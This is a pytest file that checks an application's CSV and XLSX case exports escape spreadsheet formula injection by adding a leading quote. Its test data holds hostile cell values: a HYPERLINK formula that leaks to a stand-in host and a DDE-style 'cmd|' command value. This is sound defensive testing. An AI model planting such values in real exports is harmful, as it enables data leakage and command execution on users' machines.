"""An export never hands a spreadsheet a formula: a cell a spreadsheet would evaluate
(starting with = + - @, a tab or a carriage return) is written with a leading quote."""

from __future__ import annotations

import csv
import io

import pytest

from yiri.cases.export import DELIMITER
from yiri.jobs.exports import read_archive
from yiri.lib.spreadsheet import safe_cell

from ..conftest import make_case
from ..jobs.helpers import export_through_the_pages

HOSTILE = {
    "name_last": '=HYPERLINK("http://x.example/?leak","y")',
    "name_nickname": "+1+1",
    "name_first": "@SUM(1+1)",
    "phone": "-2+3+cmd|",
}


def exported_rows(user, fmt="csv"):
    _client, _job, password, archive = export_through_the_pages(user, fmt=fmt)
    (content,) = read_archive(archive, password).values()
    if fmt == "xlsx":
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(content)).active
        return [[c.value for c in r] for r in sheet.iter_rows()]
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=DELIMITER))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_four_values_of_the_attack_come_out_quoted_in_the_case_export(cast, settings, tmp_path, fmt):
    settings.YIRI_JOBS_DIR = tmp_path / "jobs"
    make_case(cast.worker, **HOSTILE)
    header, row = exported_rows(cast.manager, fmt)
    row = ["" if c is None else str(c) for c in row]
    cells = dict(zip(header, row, strict=True))
    values = set(cells.values())
    for hostile in HOSTILE.values():
        assert hostile not in values
        assert "'" + hostile in values
    assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_ordinary_values_and_negative_numbers_are_left_as_they_are():
    assert safe_cell("Ouédraogo") == "Ouédraogo"
    assert safe_cell("-2") == "-2" and safe_cell("-2,5") == "-2,5"
    assert safe_cell("") == ""
    assert safe_cell("\tcmd") == "'\tcmd" and safe_cell("\r=1") == "'\r=1"
    assert safe_cell("-2+3") == "'-2+3"
